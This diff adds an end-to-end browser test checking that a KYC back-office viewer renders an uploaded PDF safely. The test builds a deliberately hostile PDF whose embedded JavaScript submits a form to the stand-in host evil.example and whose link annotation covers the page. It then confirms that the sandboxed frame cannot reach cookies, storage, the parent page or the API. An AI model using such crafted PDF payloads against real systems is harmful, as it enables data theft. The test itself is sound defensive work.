@@ -1,0 +1,168 @@
+import { randomBytes } from "node:crypto";
+import { Secret, TOTP } from "otpauth";
+import type { Browser, Frame } from "playwright-core";
+import { afterAll, beforeAll, expect, inject, test } from "vitest";
+import { createHouse } from "#apps/server/house.ts";
+import { systemHost } from "#apps/server/system-host.ts";
+import { readConfig } from "#kit/host/config.ts";
+import { houseOf } from "#tools/start/running-database.ts";
+import { axeFinds } from "./axe.ts";
+import { launchBrowser, patience } from "./browser.ts";
+import { say } from "./texts.ts";
+import { tooWide } from "./too-wide.ts";
+import { listen, screens, userAgent, visit } from "./visitor.ts";
+
+const password = "a long enough password";
+const t = (key: string, values?: Readonly<Record<string, string>>) => say("en", `office:${key}`, values);
+
+let browser: Browser;
+let beside: ReturnType<typeof systemHost>;
+beforeAll(async () => {
+  browser = await launchBrowser();
+  beside = systemHost(readConfig(await houseOf({ DATA_DIR: inject("house").folder })));
+});
+afterAll(async () => {
+  await beside.close();
+  await browser.close();
+});
+
+/** Two pages; the first is red all over. Opening it asks for a script, a link covers the page, and its second page is far too large. */
+function hostilePdf(): string {
+  const red = "1 0 0 rg 0 0 300 200 re f";
+  const objects = [
+    "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example'\\);)>>>>",
+    "<</Type/Pages/Kids[3 0 R 6 0 R]/Count 2>>",
+    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Annots[5 0 R]/AA<</O<</S/JavaScript/JS(app.alert\\(2\\))>>>>>>",
+    `<</Length ${red.length}>>stream\n${red}\nendstream`,
+    "<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(https://evil.example/)>>>>",
+    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 100000 100000]>>",
+  ];
+  let text = "%PDF-1.7\n";
+  const places = objects.map((object, index) => {
+    const at = text.length;
+    text += `${index + 1} 0 obj${object}endobj\n`;
+    return at;
+  });
+  const table = places.map(at => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
+  return `${text}xref\n0 ${places.length + 1}\n0000000000 65535 f \n${table}trailer<</Size ${places.length + 1}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF`;
+}
+
+/** What a script in the frame could get at. */
+async function reach(frame: Frame): Promise<Record<string, string>> {
+  return frame.evaluate(async () => {
+    const scope = globalThis as unknown as Record<string, Record<string, unknown>>;
+    const tried = async (work: () => unknown) => {
+      try {
+        return `got ${String(await work())}`;
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    const call = (fetch: unknown) => (fetch as typeof globalThis.fetch)("/api/office/me", { credentials: "include" });
+    return {
+      origin: String(scope.origin),
+      cookie: await tried(() => scope.document?.cookie),
+      storage: await tried(() => scope.localStorage?.length),
+      parent: await tried(() => (scope.parent?.document as { title?: string } | undefined)?.title),
+      call: await tried(async () => (await call(scope.fetch)).status),
+    };
+  });
+}
+
+test("timur sees the first page of a hostile PDF, whose scripts and links do nothing, in a frame that can reach nothing", async () => {
+  const rustam = await visit(browser, { locale: "en", screen: "desktop" });
+  await rustam.register(`rustam-${Date.now()}@example.com`);
+  const identity = { first_name: "Rustam", last_name: "Sadykov", birth_date: "1990-05-17" };
+  await rustam.call("POST", "/api/v1/verification/identity", identity);
+  const give = (kind: string, content: string) =>
+    rustam.call("POST", "/api/v1/verification/documents", {
+      kind,
+      content: Buffer.from(content, "latin1").toString("base64"),
+    });
+  await give("identity", hostilePdf());
+  await give("address", "%PDF-1.7 a bill nobody may read");
+  const { id } = await rustam.profile();
+
+  const [secret, email] = [randomBytes(20), `pdf-${Date.now()}@house.example`];
+  const { operators } = createHouse(beside.host);
+  await operators.registerDemoOperator({ email, name: "Timur", role: "risk", password, secret });
+  const context = await browser.newContext({ viewport: screens.desktop, locale: "en", userAgent });
+  context.setDefaultTimeout(patience);
+  const page = await context.newPage();
+  const complaints = listen(page);
+  const asked: string[] = [];
+  page.on("request", request => void asked.push(request.url()));
+  const dialogs: string[] = [];
+  page.on("dialog", dialog => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  const { office } = inject("house");
+  await page.goto(`${office}/login`);
+  await page.getByLabel(t("login.email")).fill(email);
+  await page.getByLabel(t("login.password")).fill(password);
+  await page.getByRole("button", { name: t("login.next") }).click();
+  const key = new Secret({ buffer: Uint8Array.from(secret).buffer });
+  const app = new TOTP({ algorithm: "SHA1", digits: 6, period: 30, secret: key });
+  await page.getByLabel(t("login.code")).fill(app.generate());
+  await page.getByRole("button", { name: t("login.enter") }).click();
+  await page.waitForURL(`${office}/`);
+  await page.goto(`${office}/kyc/${id}`);
+  // Nothing of it is loaded before a PDF is opened.
+  await page.waitForLoadState("networkidle");
+  expect(asked.filter(url => /pdf/.test(url))).toEqual([]);
+
+  const look = async (kind: string) => {
+    await page
+      .locator("tr", { hasText: t(`kyc.${kind}`) })
+      .getByRole("button", { name: t("kyc.look") })
+      .click();
+    const dialog = page.getByRole("dialog");
+    await dialog.getByLabel(t("reason")).fill("checks the case");
+    await dialog.getByRole("button", { name: t("kyc.look"), exact: true }).click();
+    await dialog.waitFor({ state: "detached" });
+  };
+  await look("identity");
+  await page.getByText(t("kyc.pdf_shown", { n: "2", total: "2" })).waitFor();
+  const frame = page.frames().find(each => each !== page.mainFrame());
+  if (!frame) throw new Error("the document has a frame");
+  await frame.getByRole("img", { name: t("kyc.pdf_page", { n: "1", total: "2" }) }).waitFor();
+  const colours = await frame.evaluate(() => {
+    type Canvas = {
+      getContext(of: string): { getImageData(...box: number[]): { data: ArrayLike<number> } };
+      width: number;
+    };
+    const scope = globalThis as unknown as { document: { querySelectorAll(name: string): Iterable<Canvas> } };
+    const [first, second] = [...scope.document.querySelectorAll("canvas")];
+    return [[...Array.from(first?.getContext("2d").getImageData(50, 50, 1, 1).data ?? [])], second?.width];
+  });
+  expect(colours[0]).toEqual([255, 0, 0, 255]);
+  expect(colours[1]).toBeLessThanOrEqual(1400);
+  expect(await reach(frame)).toEqual({
+    origin: "null",
+    cookie: "SecurityError",
+    storage: "SecurityError",
+    parent: "SecurityError",
+    call: "TypeError",
+  });
+  // The link over the page is a picture of a link.
+  await page.locator("iframe").click({ position: { x: 60, y: 60 } });
+  expect(asked.filter(url => url.includes("evil.example"))).toEqual([]);
+  expect([dialogs, context.pages().length]).toEqual([[], 1]);
+  expect(await axeFinds(page)).toEqual([]);
+  await page.setViewportSize(screens.phone);
+  expect(await tooWide(page)).toEqual([]);
+  await page.setViewportSize(screens.desktop);
+
+  await look("address");
+  await page.getByRole("alert").getByText(t("kyc.pdf_broken")).waitFor();
+  const download = page.waitForEvent("download");
+  await page.getByRole("link", { name: t("kyc.download") }).click();
+  expect((await download).suggestedFilename()).toBe("address.pdf");
+
+  // What the story itself tried from inside the frame is refused and said so; nothing else is.
+  const expected = /401 .*\/api\/office\/me$|Content Security Policy|\/api\/office\/me/;
+  expect(complaints.filter(line => !expected.test(line))).toEqual([]);
+  await context.close();
+  await rustam.leave();
+});
